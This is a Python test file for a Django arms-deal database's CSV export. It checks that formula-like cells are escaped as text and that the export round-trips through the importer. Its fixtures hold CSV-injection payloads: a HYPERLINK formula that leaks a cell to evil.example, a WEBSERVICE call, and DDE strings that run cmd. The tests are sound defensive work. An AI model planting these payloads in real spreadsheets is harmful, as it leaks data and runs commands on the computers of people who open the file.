"""Spreadsheet-safe CSV: a text cell a spreadsheet would run as a formula is written as text, on both export paths,
and the file still reads back through `import_sipri` as the same deals."""

import csv
import io

import pytest
from django.contrib.auth.models import AnonymousUser
from django.db import connection

from actors.models import Actor
from deals import export, export_copy
from deals.export import spreadsheet_safe, spreadsheet_unquoted
from deals.models import Deal
from deals.selectors import deal_list
from sources.models import Citation, Source
from systems.models import Category, System

from .factories import make_deal, make_system
from .test_import_sipri import assert_same_deals, empty_database, reimport
from .test_import_sipri import export as export_rows

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'
DDE = "-2+3+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_deals():
    """Deals whose quotes, notes, names and titles start as formulas do, and some that only look close."""
    group = Actor.objects.create(slug="evil-front", name=HYPERLINK, kind="non_state_group")
    system = make_system(slug="dde-1", designation=DDE, description=SUM)
    odd = Category.objects.create(slug="plus-odd", name="+odd category")
    make_system(slug="odd-1", designation="Odd-1", description="odd kit", category=odd)
    first = make_deal(supplier=group, system=system, notes="=1+1", quantity_text="-12", year=2019)
    title = Source.objects.create(kind="article", title='=WEBSERVICE("http://evil.example")', publisher="@pub")
    # Cited after the seed's article, so the cell starts with the article's harmless title.
    Citation.objects.create(source=title, deal=first, quote="+quoted claim")
    second = make_deal(notes="'=quoted already", quantity_text="\t=2", year=2020)
    third = make_deal(
        recipient=Actor.objects.get(slug="serbia"), notes="\r@x", quantity_text="Fine - a dash inside", year=2021
    )
    fourth = make_deal(system=Deal.objects.get(pk=first.pk).system, notes="+ plus", year=2022)
    return [first, second, third, fourth]


def cells(body: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


def test_the_rule():
    values = ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "''-", "'x", "'", "a=1", " =1", ""]
    assert [spreadsheet_safe(v) for v in values] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "''=1",
        "'''-",
        "'x",
        "'",
        "a=1",
        " =1",
        "",
    ]
    for value in [*values, "''", "'''+", "-"]:
        assert spreadsheet_unquoted(spreadsheet_safe(value)) == value


@pytest.mark.django_db
def test_formula_cells_are_written_as_text(client, hostile_deals):
    response = client.get("/api/v1/deals/export.csv", {"year_from": 2019, "year_to": 2022, "party": "AM,RS"})
    rows = {row["Dealgraph deal id"]: row for row in cells(b"".join(response.streaming_content).decode())}
    first, second, third, fourth = (rows[str(deal.pk)] for deal in hostile_deals)
    assert first["Supplier"] == "'" + HYPERLINK
    assert first["Weapon designation"] == "'" + DDE
    assert first["Weapon description"] == "'" + SUM
    assert (first["Comments"], first["Quantity as written"]) == ("'=1+1", "'-12")
    assert first["Sources"].startswith("Iran looks to the Balkan market") and "| =WEBSERVICE(" in first["Sources"]
    assert (second["Comments"], second["Quantity as written"]) == ("''=quoted already", "'\t=2")
    assert (third["Comments"], third["Quantity as written"]) == ("'\r@x", "Fine - a dash inside")
    assert fourth["Comments"] == "'+ plus"
    # Numbers stay numbers, and the columns that hold them are not touched.
    assert (first["Year of order"], first["Supplier kind"], first["Review status"]) == (
        "2019",
        "non_state_group",
        "reviewed",
    )
    # No text cell of the file starts as a formula would.
    for row in rows.values():
        for title, value in row.items():
            assert not value.startswith(export.FORMULA_STARTS), (title, value)


@pytest.mark.django_db
def test_a_source_title_that_leads_the_cell_is_made_safe(client, hostile_deals):
    first = hostile_deals[0]
    Citation.objects.filter(deal=first).exclude(source__title__startswith="=").delete()
    response = client.get("/api/v1/deals/export.csv", {"year_from": 2019, "year_to": 2019, "recipient": "AM"})
    (row,) = cells(b"".join(response.streaming_content).decode())
    assert row["Sources"] == '\'=WEBSERVICE("http://evil.example") (@pub)'


@pytest.mark.django_db
def test_copy_writes_the_same_safe_bytes(hostile_deals, curator):
    if connection.vendor != "postgresql":
        pytest.skip("COPY is PostgreSQL's; elsewhere the export is written row by row.")
    odd = make_deal(system=System.objects.get(slug="odd-1"), notes="-1")
    for queryset in (deal_list(curator), deal_list(AnonymousUser()).order_by("-id")):
        assert export_copy.available(queryset)
        by_rows = "".join(export.csv_lines(queryset)).encode()
        by_copy = b"".join(export_copy.csv_lines(queryset))
        assert by_copy == by_rows
        assert b"'+odd category" in by_copy and b"'" + HYPERLINK.replace('"', '""').encode() in by_copy
        assert f"{odd.pk}".encode() in by_copy


def test_the_safe_export_reads_back_as_the_same_deals(committed_db, client, tmp_path, hostile_deals):
    """The round trip of docs/import.md on hostile text: each quote the export added is taken off again. (Leading
    tabs and carriage returns are left out: the importer trims every cell, from SIPRI or not.)"""
    Deal.objects.filter(pk__in=[deal.pk for deal in hostile_deals]).update(quantity_text="")
    path = tmp_path / "dealgraph-deals.csv"
    before = export_rows(client, path, recipient="AM", year_from=2019, year_to=2022)
    assert len(before) == 3 and {row["Comments"] for row in before} == {"'=1+1", "''=quoted already", "'+ plus"}

    empty_database()
    summary = reimport(path)
    assert "(dealgraph layout, utf-8)" in summary and "deals created 3, updated 0" in summary, summary
    assert Deal.objects.filter(notes="=1+1", supplier__name=HYPERLINK, system__designation=DDE).exists()
    assert Deal.objects.filter(notes="'=quoted already").exists()
    assert_same_deals(before, export_rows(client, source=str(Source.objects.get(publisher="Dealgraph").pk)))
